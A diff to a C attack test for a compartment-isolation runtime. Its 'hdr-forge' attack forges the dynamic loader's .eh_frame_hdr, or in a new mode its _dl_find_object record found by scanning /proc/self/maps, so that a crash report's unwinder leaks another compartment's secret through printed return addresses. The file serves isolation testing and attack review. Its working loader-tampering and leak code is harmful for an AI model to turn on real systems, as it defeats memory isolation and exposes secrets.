@@ -1,6 +1,8 @@
 /*
- * attack --hdr-forge (limit 12, a limit not closed; found by an attack
- * review): the report's unwinder reads a shared library's unwind table in
+ * attack --hdr-forge header|record (limit 12).
+ *
+ * header (a limit not closed; found by an attack review): the report's
+ * unwinder reads a shared library's unwind table in
  * that library's read-only segment, and the filter's range rules cover
  * the image's segments, not the libraries'. lib1 makes the page of the
  * loader's (ld.so's) .eh_frame_hdr writable and points it (an absolute
@@ -13,6 +15,12 @@
  * report (a known limit, TAP TODO). The C library's page is covered by
  * another range's window in the test image (its mprotect is denied), the
  * loader's is not.
+ *
+ * record: the same header, forged in lib1's own memory, and the loader's
+ * record of its object for _dl_find_object (key 0) pointed at it. The
+ * report's unwinder asks the backend's wrapper (the runtime's read-only
+ * copy) instead: no word of app's is printed. With the loader's answer,
+ * it was.
  */
 #define _GNU_SOURCE 1
 #include <elf.h>
@@ -27,6 +35,7 @@
 
 #include "attacklib.h"
 #include "hdrforge.h"
+#include "leakrules.h"
 
 /* hf_go(addr, ra): jumps to hf_fault with ra as its return address; it reads addr. */
 __asm__(".text\n"
@@ -48,8 +57,63 @@ void hf_go(uintptr_t addr, uintptr_t ra);
 /* lib1's rules and what it knows: shared (lib1 reads it with its PKRU). */
 static struct {
 	unsigned char eh[512] __attribute__((aligned(8)));
+	unsigned char fake_hdr[16] __attribute__((aligned(8)));
 	uintptr_t secret, lo, base, hdr;
+	int record;
 } hf FLEXOS_SHARED;
+
+/* Whether lib1 may read [p, p + len): a pipe's write takes it with its PKRU (EFAULT if not). */
+static int readable(int fd[2], const void *p, size_t len)
+{
+	char sink[4096];
+
+	if (write(fd[1], p, len) != (ssize_t)len)
+		return 0;
+	return read(fd[0], sink, len) == (ssize_t)len;
+}
+
+/*
+ * The loader's record of its own object for _dl_find_object (glibc 2.35:
+ * struct dl_find_object_internal, map_start, map_end, map, eh_frame), in
+ * the small writable mappings lib1 may read: its eh_frame pointed at
+ * fake_hdr.
+ */
+static int forge_record(void)
+{
+	FILE *maps = fopen("/proc/self/maps", "r");
+	char line[512];
+	int fd[2], found = 0;
+
+	if (!maps || pipe(fd))
+		return 0;
+	while (!found && fgets(line, sizeof(line), maps)) {
+		unsigned long lo, hi;
+		char perms[8];
+		/* (The loader's small mappings: its own data, its start-up allocations.) */
+		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[1] != 'w' ||
+		    hi - lo > (64ul << 10))
+			continue;
+		for (uintptr_t page = lo; page < hi && !found; page += 4096) {
+			if (!readable(fd, (const void *)page, 4096))
+				continue;
+			uintptr_t *w = (uintptr_t *)page;
+			for (int i = 0; i + 3 < 512; i++)
+				if (w[i + 3] == hf.hdr && w[i] <= hf.lo && hf.lo < w[i + 1]) {
+					printf(
+					    "hdr-forge: the loader's record of its object at %p\n",
+					    (void *)&w[i]);
+					fflush(stdout);
+					w[i + 3] = (uintptr_t)hf.fake_hdr;
+					found = 1;
+					break;
+				}
+		}
+	}
+	fclose(maps);
+	close(fd[0]);
+	close(fd[1]);
+	return found;
+}
 
 static int loader(struct dl_phdr_info *info, size_t size, void *data)
 {
@@ -68,91 +132,47 @@ static int loader(struct dl_phdr_info *info, size_t size, void *data)
 	return 1;
 }
 
-static unsigned char *put8(unsigned char *p, uint64_t v)
-{
-	memcpy(p, &v, 8);
-	return p + 8;
-}
-
-static unsigned char *put4(unsigned char *p, uint32_t v)
-{
-	memcpy(p, &v, 4);
-	return p + 4;
-}
-
-/* An FDE for [lo, hi): rip = lo(text) + 0x10001 + ((*secret >> 16 * rbx) & 0xffff); rbx += 1. */
-static unsigned char *fde(unsigned char *p, const unsigned char *cie, uintptr_t lo, uintptr_t hi)
-{
-	unsigned char *len = p, *elen, *q;
-
-	p = put4(p + 4, (uint32_t)(p + 4 - cie));
-	p = put8(p, lo);
-	p = put8(p, hi - lo);
-	*p++ = 0;               /* augmentation data: none */
-	*p++ = 0x16, *p++ = 16; /* DW_CFA_val_expression rip */
-	elen = p++, q = p;
-	*p++ = 0x0e; /* DW_OP_const8u: the word's address */
-	p = put8(p, hf.secret);
-	*p++ = 0x06;                           /* DW_OP_deref: app's word */
-	*p++ = 0x73, *p++ = 0;                 /* DW_OP_breg3 0: rbx */
-	*p++ = 0x34, *p++ = 0x24;              /* DW_OP_lit4, DW_OP_shl */
-	*p++ = 0x25;                           /* DW_OP_shr */
-	*p++ = 0x0a, *p++ = 0xff, *p++ = 0xff; /* DW_OP_const2u 0xffff */
-	*p++ = 0x1a;                           /* DW_OP_and */
-	*p++ = 0x0e;                           /* DW_OP_const8u */
-	p = put8(p, hf.lo + 0x10001);
-	*p++ = 0x22; /* DW_OP_plus */
-	*elen = (unsigned char)(p - q);
-	*p++ = 0x16, *p++ = 3, *p++ = 2, *p++ = 0x73, *p++ = 1; /* rbx = rbx + 1 */
-	while ((p - len) % 8)
-		*p++ = 0; /* DW_CFA_nop */
-	put4(len, (uint32_t)(p - len - 4));
-	return p;
-}
-
 /* Run by lib1 (lib1_call: cb(x + 1) + 1); never returns if it can write the header. */
 static long forge_in_lib1(long x)
 {
-	unsigned char *p = hf.eh, *cie = p;
-	uintptr_t page = hf.hdr & ~(uintptr_t)4095;
+	const struct leak_range r[] = {{hf.lo + 0x10000, hf.lo + 0x20002}};
+	uintptr_t page = hf.hdr & ~(uintptr_t)4095, eh = (uintptr_t)hf.eh;
+	unsigned char *h = (unsigned char *)hf.hdr;
 
 	(void)x;
-	p = put4(p + 4, 0); /* a CIE: version 1, "zR", absolute pointers, CFA rsp + 16 */
-	*p++ = 1, *p++ = 'z', *p++ = 'R', *p++ = 0, *p++ = 1, *p++ = 0x78, *p++ = 16;
-	*p++ = 1, *p++ = 0x00, *p++ = 0x0c, *p++ = 7, *p++ = 16;
-	while ((p - cie) % 8)
-		*p++ = 0;
-	put4(cie, (uint32_t)(p - cie - 4));
-	p = fde(p, cie, hf.lo + 0x10000, hf.lo + 0x20002);
-	put4(p, 0);
-	if (mprotect((void *)page, 4096, PROT_READ | PROT_WRITE))
+	leak_rules(hf.eh, r, 1, hf.secret, hf.lo + 0x10000);
+	if (hf.record) {
+		/* The header, forged in lib1's memory, and the loader's record pointed at it. */
+		h = hf.fake_hdr;
+		h[0] = 1;
+	} else if (mprotect((void *)page, 4096, PROT_READ | PROT_WRITE)) {
 		return -100;
-	unsigned char *h = (unsigned char *)hf.hdr;
-	uintptr_t eh = (uintptr_t)hf.eh;
+	}
 	h[1] = 0x00; /* eh_frame_ptr_enc: an absolute pointer */
 	h[2] = 0xff; /* fde_count_enc: none, so no search table: a linear search */
 	h[3] = 0xff;
 	memcpy(h + 4, &eh, 8);
+	if (hf.record && !forge_record())
+		return -101;
 	hf_go(hf.secret, hf.lo + 0x10001);
 	return 0;
 }
 
-int hdr_forge(uintptr_t app_secret)
+int hdr_forge(uintptr_t app_secret, const char *how)
 {
 	long r = 0;
 	uint64_t word = *(volatile uint64_t *)app_secret;
 
 	hf.secret = app_secret;
-	if (!dl_iterate_phdr(loader, NULL) || !hf.hdr || !hf.lo)
+	hf.record = !strcmp(how, "record");
+	if ((!hf.record && strcmp(how, "header")) || !dl_iterate_phdr(loader, NULL) || !hf.hdr ||
+	    !hf.lo)
 		return 2;
-	printf("hdr-forge: app's word %#lx would show in the report as", (unsigned long)word);
-	for (int i = 0; i < 4; i++)
-		printf(" ld-linux-x86-64.so.2+%#lx",
-		       (unsigned long)(hf.lo - hf.base + 0x10001 + ((word >> 16 * i) & 0xffff)));
-	printf("\n");
-	fflush(stdout);
+	leak_offsets("hdr-forge", word, "ld-linux-x86-64.so.2", hf.lo + 0x10000, hf.base);
 	flexos_gate_r(lib1, r, lib1_call, forge_in_lib1, 0);
 	printf("hdr-forge: lib1 returned %ld (%s)\n", r - 1,
-	       r == -99 ? "the loader's unwind table could not be made writable" : "?");
-	return r == -99 ? 0 : 1;
+	       r == -99    ? "the loader's unwind table could not be made writable"
+	       : r == -100 ? "the loader's record was not found in memory lib1 may read"
+			   : "?");
+	return r == -99 ? 0 : r == -100 ? 3 : 1;
 }
